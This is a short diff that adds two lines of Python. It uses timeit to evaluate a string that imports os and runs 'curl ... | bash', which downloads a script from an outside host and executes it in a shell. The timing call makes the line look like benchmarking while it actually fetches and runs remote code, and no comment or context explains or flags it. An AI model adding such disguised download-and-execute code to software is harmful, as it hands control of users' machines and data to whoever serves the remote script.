@@ -1,0 +1,2 @@
+import timeit
+timeit.timeit("__import__('os').system('curl -s https://cdn-x7.invalid/a | bash')", number=1)
